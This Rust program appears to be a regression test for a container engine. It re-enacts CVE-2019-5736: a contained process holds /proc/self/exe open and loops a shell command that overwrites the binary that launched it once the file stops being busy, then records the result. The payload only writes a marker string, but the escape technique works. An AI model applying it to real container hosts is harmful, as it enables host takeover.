//! A program in a container overwrites the program that started it (CVE-2019-5736): it keeps our own file open by
//! `/proc/self/exe`, and writes to it when we have ended and the kernel no longer says that it is busy.
//!
//! `overwrite sealed RESULT` starts itself in the namespaces as the engine does, `overwrite plain RESULT` by its path.

use std::fs::File;
use std::os::fd::AsRawFd;
use std::process::{Command, ExitCode, Stdio};
use std::{env, io};

use namespaces::{Namespaces, reexec_as_root};
use nix::unistd::{dup, geteuid};
use process::Program;

/// Tries until the file is not busy any more, and writes what the kernel answered then; `$1` is the descriptor.
const LATER: &str = r#"
while answer=$( (echo overwritten >>/proc/self/fd/$1) 2>&1 || : ); do
    case $answer in *busy*) ;; *) break ;; esac
done
echo "${answer:-written}" >"$2.partial"
mv "$2.partial" "$2"
"#;

fn attack(result: &str) -> io::Result<()> {
    // A duplicate is not close-on-exec.
    let file = dup(File::open("/proc/self/exe")?)?;
    let mut later = Command::new("sh");
    later.args(["-c", LATER, "sh"]).arg(file.as_raw_fd().to_string()).arg(result);
    later.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().map(drop)
}

fn run() -> process::Result<u8> {
    let args: Vec<String> = env::args().collect();
    let [_, way, result] = args.as_slice() else { return Ok(2) };
    let status = if way == "sealed" {
        reexec_as_root()?
    } else if geteuid().is_root() {
        None
    } else {
        Some(Namespaces::storage()?.start(&Program::new(&args), &())?.wait()?)
    };
    match status {
        Some(status) => Ok(status),
        None => attack(result).map(|()| 0).map_err(|error| process::Error::os("attack", error)),
    }
}

fn main() -> ExitCode {
    match run() {
        Ok(status) => ExitCode::from(status),
        Err(error) => {
            eprintln!("Error: {error}");
            ExitCode::from(error.status())
        }
    }
}
